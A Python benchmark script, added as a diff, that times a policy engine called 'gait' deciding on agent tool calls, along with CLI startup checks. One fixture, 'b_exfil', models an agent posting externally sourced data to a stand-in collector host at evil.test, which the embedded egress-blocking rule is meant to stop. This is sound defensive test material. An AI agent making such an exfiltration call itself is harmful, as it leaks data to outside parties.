@@ -1,0 +1,184 @@
+#!/usr/bin/env python3
+"""Decision cost: µs per in-process decision, and wall time of one ``gait`` process.
+
+Usage: python tools/bench/bench_decision.py [--number N] [--repeat N] [--runs N]
+
+* in process, compiled policy already loaded (policy_cli.md running example and
+  a shipped policy; fixtures a/b/c of the running example):
+  - decision = decode the intent JSON bytes + normalize + evaluate;
+  - ``evaluate`` alone on an already-normalized ``Intent``.
+  Each figure is the median over ``--repeat`` timeit repeats of ``--number`` calls.
+* process (median of ``--runs``): one ``gait policy test`` with a cold compile
+  cache (a fresh ``GAIT_CACHE_DIR`` per run) and with a warm one; ``gait --help``.
+* imports: whether ``gait --help`` loads lark or cryptography (it must not).
+
+Targets (issue 3): in-process decision < 10 µs; warm ``gait policy test`` < 80 ms.
+Prints numbers; asserts nothing.
+"""
+
+from __future__ import annotations
+
+import argparse
+import json
+import os
+import shutil
+import statistics
+import subprocess
+import sys
+import tempfile
+import time
+import timeit
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+REPO = Path(__file__).resolve().parents[2]
+
+RUNNING_POLICY = """\
+schema_id: gait.gate.policy
+schema_version: 1.0.0
+default_verdict: block
+fail_closed:
+  enabled: true
+  required_fields: [targets]
+rules:
+  - name: write-needs-review
+    priority: 20
+    effect: require_approval
+    min_approvals: 2
+    match:
+      tool_names: [fs.write]
+    reason_codes: [write_review]
+  - name: read-files
+    priority: 20
+    effect: allow
+    match:
+      tool_name: FS.Read
+  - name: deny-external-egress
+    priority: 10
+    effect: block
+    match:
+      provenance_sources: [external]
+      target_kinds: [url, host]
+    reason_codes: [blocked_untrusted_egress]
+    violations: [untrusted_egress]
+"""
+
+FIXTURES = {
+    "a_read": b'{"tool_name":"fs.read","args":{"path":"/repo/README.md"},"targets":[{"kind":"path","value":"/repo/README.md","operation":"read"}],"arg_provenance":[{"arg_path":"$.path","source":"user"}],"context":{"identity":"dev-bot","workspace":"/repo","risk_class":"low"}}',
+    "b_exfil": b'{"tool_name":"http.post","args":{"url":"https://collector.evil.test/upload","body":"see attached"},"targets":[{"kind":"url","value":"https://collector.evil.test/upload","operation":"post"}],"arg_provenance":[{"arg_path":"$.body","source":"external","source_ref":"web:page-42"}],"context":{"identity":"dev-bot","workspace":"/repo","risk_class":"high"}}',
+    "c_write": b'{"tool_name":"fs.write","args":{"path":"/repo/out.txt","content":"hello"},"targets":[{"kind":"path","value":"/repo/out.txt","operation":"write"}],"arg_provenance":[{"arg_path":"$.content","source":"user"}],"context":{"identity":"dev-bot","workspace":"/repo","risk_class":"medium"}}',
+}
+SHIPPED_POLICY = REPO / "policies" / "base_high_risk.yaml"
+
+
+def median_us(call: Callable[[], Any], number: int, repeat: int) -> float:
+    for _ in range(min(number, 500)):  # warm-up: runtime closures, caches
+        call()
+    times = timeit.repeat(call, number=number, repeat=repeat)
+    return statistics.median(times) / number * 1e6
+
+
+def bench_in_process(number: int, repeat: int) -> None:
+    from gait.engine import evaluate
+    from gait.intent import decode_intent_bytes, normalize_intent
+    from gait.policy import compile_policy
+
+    policies = {
+        "running-example": compile_policy(RUNNING_POLICY, use_cache=False),
+        SHIPPED_POLICY.name: compile_policy(SHIPPED_POLICY.read_bytes(), use_cache=False),
+    }
+    print(f"in process: median of {repeat} repeats x {number} calls (target: decision < 10 µs)")
+    print(
+        f"  {'policy':<22} {'fixture':<9} {'verdict':<17} {'decision µs':>12} {'evaluate µs':>12}"
+    )
+    for pname, compiled in policies.items():
+        for fname, data in FIXTURES.items():
+            intent = normalize_intent(decode_intent_bytes(data))
+            verdict = evaluate(compiled, intent).verdict
+
+            def decision(data: bytes = data, compiled: Any = compiled) -> Any:
+                return evaluate(compiled, normalize_intent(decode_intent_bytes(data)))
+
+            def evaluate_only(intent: Any = intent, compiled: Any = compiled) -> Any:
+                return evaluate(compiled, intent)
+
+            full = median_us(decision, number, repeat)
+            only = median_us(evaluate_only, number, repeat)
+            print(f"  {pname:<22} {fname:<9} {verdict:<17} {full:>12.2f} {only:>12.2f}")
+
+
+def gait_command() -> list[str]:
+    search = os.pathsep.join([str(Path(sys.executable).parent), os.environ.get("PATH", "")])
+    found = shutil.which("gait", path=search)
+    return [found] if found else [sys.executable, "-m", "gait.cli.main"]
+
+
+def wall_ms(argv: list[str], cwd: Path, env: dict[str, str]) -> float:
+    start = time.perf_counter()
+    subprocess.run(argv, cwd=cwd, env=env, capture_output=True, check=False)
+    return (time.perf_counter() - start) * 1000.0
+
+
+def bench_processes(runs: int) -> None:
+    gait = gait_command()
+    with tempfile.TemporaryDirectory(prefix="gait-bench-") as tmp:
+        work = Path(tmp)
+        (work / "policy.yaml").write_text(RUNNING_POLICY)
+        (work / "intent.json").write_bytes(FIXTURES["c_write"])
+        base_env = {k: v for k, v in os.environ.items() if k != "GAIT_NO_CACHE"}
+        test_argv = [*gait, "policy", "test", "policy.yaml", "intent.json", "--json"]
+
+        cold = []
+        for i in range(runs):
+            env = {**base_env, "GAIT_CACHE_DIR": str(work / f"cold-{i}")}
+            cold.append(wall_ms(test_argv, work, env))
+
+        warm_env = {**base_env, "GAIT_CACHE_DIR": str(work / "warm")}
+        wall_ms(test_argv, work, warm_env)  # fills the cache
+        warm = [wall_ms(test_argv, work, warm_env) for _ in range(runs)]
+        helps = [wall_ms([*gait, "--help"], work, warm_env) for _ in range(runs)]
+
+    print(f"process wall time: median of {runs} runs ({' '.join(gait)})")
+    print(f"  gait policy test, cold compile cache   {statistics.median(cold):8.1f} ms")
+    print(
+        f"  gait policy test, warm compile cache   {statistics.median(warm):8.1f} ms   (target < 80 ms)"
+    )
+    print(f"  gait --help                            {statistics.median(helps):8.1f} ms")
+
+
+PROBE = """
+import contextlib, io, json, sys
+from gait.cli.main import main
+with contextlib.redirect_stdout(io.StringIO()):
+    main(["--help"])
+print(json.dumps(sorted({m.split(".")[0] for m in sys.modules} & {"lark", "cryptography", "yaml", "msgspec"})))
+"""
+
+
+def check_help_imports() -> None:
+    out = subprocess.run(
+        [sys.executable, "-c", PROBE], capture_output=True, text=True, check=False
+    ).stdout.strip()
+    loaded = json.loads(out or "null")
+    heavy = [m for m in (loaded or []) if m in ("lark", "cryptography")]
+    verdict = "ok" if loaded is not None and not heavy else "NOT OK"
+    print(
+        f"gait --help imports lark/cryptography: {heavy or 'none'} ({verdict}); other heavy: {loaded}"
+    )
+
+
+def main() -> None:
+    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
+    parser.add_argument("--number", type=int, default=2000, help="calls per timeit repeat")
+    parser.add_argument("--repeat", type=int, default=7, help="timeit repeats (median reported)")
+    parser.add_argument("--runs", type=int, default=7, help="process runs (median reported)")
+    args = parser.parse_args()
+    print(f"python {sys.version.split()[0]} on {sys.platform}")
+    bench_in_process(args.number, args.repeat)
+    bench_processes(args.runs)
+    check_help_imports()
+
+
+if __name__ == "__main__":
+    main()
